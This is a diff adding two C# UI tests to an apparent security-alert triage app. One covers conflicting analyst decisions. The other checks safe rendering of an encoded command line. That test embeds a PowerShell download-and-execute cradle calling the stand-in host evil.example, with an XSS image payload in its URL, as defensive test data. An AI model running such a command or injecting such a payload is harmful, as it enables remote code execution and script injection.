@@ -156,6 +156,54 @@ public sealed class AlertPageTests : TriagePageContext
     }
 
     [Fact]
+    public async Task Close_OtherDecidedWhileTheFormWasOpen_AsksFirstAndOverwritesOnlyWhenSentAgain()
+    {
+        var alert = await Store.AddAlertAsync(new());
+        var page = Open(Roles.Analyst, alert.PublicId);
+        await PressAsync("c");
+        page.FindAll("input[name=outcome]")[1].Change("BenignPositive");
+        page.Find(".decision textarea").Input("Known roll-out");
+
+        await new CloseCommands(Store, Store.Time, Store.Notices)
+            .CloseAsync(AlertStore.OtherAnalyst, alert.PublicId, 0, new(AlertOutcome.TruePositive, "an attack"), CancellationToken.None);
+        Notices.Publish(Topic.Alerts);
+        page.WaitForAssertion(() => Assert.Contains("closed it as true positive", page.Markup, StringComparison.Ordinal));
+        page.Find(".decision form").Submit();
+
+        page.WaitForAssertion(() => Assert.Contains("was faster", page.Find(".overtaken").TextContent, StringComparison.Ordinal));
+        Assert.Contains("an attack", page.Find(".overtaken").TextContent, StringComparison.Ordinal);
+        Assert.DoesNotContain("@", page.Find(".overtaken").TextContent, StringComparison.Ordinal);
+        Assert.Equal(AlertOutcome.TruePositive, (await Store.ReadAsync(alert.PublicId)).Outcome);
+        Assert.Equal("Known roll-out", page.Find(".decision textarea").GetAttribute("value"));
+
+        page.Find(".decision form").Submit();
+        page.WaitForAssertion(() => Assert.Empty(page.FindAll(".decision")));
+        Assert.Equal(AlertOutcome.BenignPositive, (await Store.ReadAsync(alert.PublicId)).Outcome);
+    }
+
+    [Fact]
+    public async Task Render_EncodedCommand_ShowsWhatItSaysWithTheWordsThatCount()
+    {
+        const string script = "IEX (New-Object Net.WebClient).Down`loadString('http://evil.example/<img src=x onerror=alert(1)>')\nexit";
+        var encoded = Convert.ToBase64String(System.Text.Encoding.Unicode.GetBytes(script));
+        var alert = await Store.AddAlertAsync(new() { CommandLine = "wscript.exe -enc " + encoded });
+        await using (var db = Store.CreateDbContext())
+        {
+            var row = await db.Alerts.SingleAsync(a => a.Id == alert.Id, Xunit.TestContext.Current.CancellationToken);
+            row.DetailJson = row.DetailJson.Replace("lies in a profile", "'downloadstring'", StringComparison.Ordinal);
+            await db.SaveChangesAsync(Xunit.TestContext.Current.CancellationToken);
+        }
+
+        var page = Open(Roles.Manager, alert.PublicId);
+
+        var lines = page.FindAll(".card pre").Where(pre => pre.GetAttribute("aria-label")!.StartsWith("Decoded text of", StringComparison.Ordinal)).ToList();
+        Assert.Equal(script, Assert.Single(lines).TextContent);
+        Assert.Equal(["Down`loadString"], lines[0].QuerySelectorAll("mark").Select(mark => mark.TextContent));
+        Assert.Contains(page.FindAll(".tc-command mark"), mark => mark.TextContent == encoded);
+        Assert.Empty(page.FindAll("img"));
+    }
+
+    [Fact]
     public async Task Allow_PanelOpened_IsFilledWithTheNarrowestUseThatCoversThis()
     {
         var alert = await Store.AddAlertAsync(new());
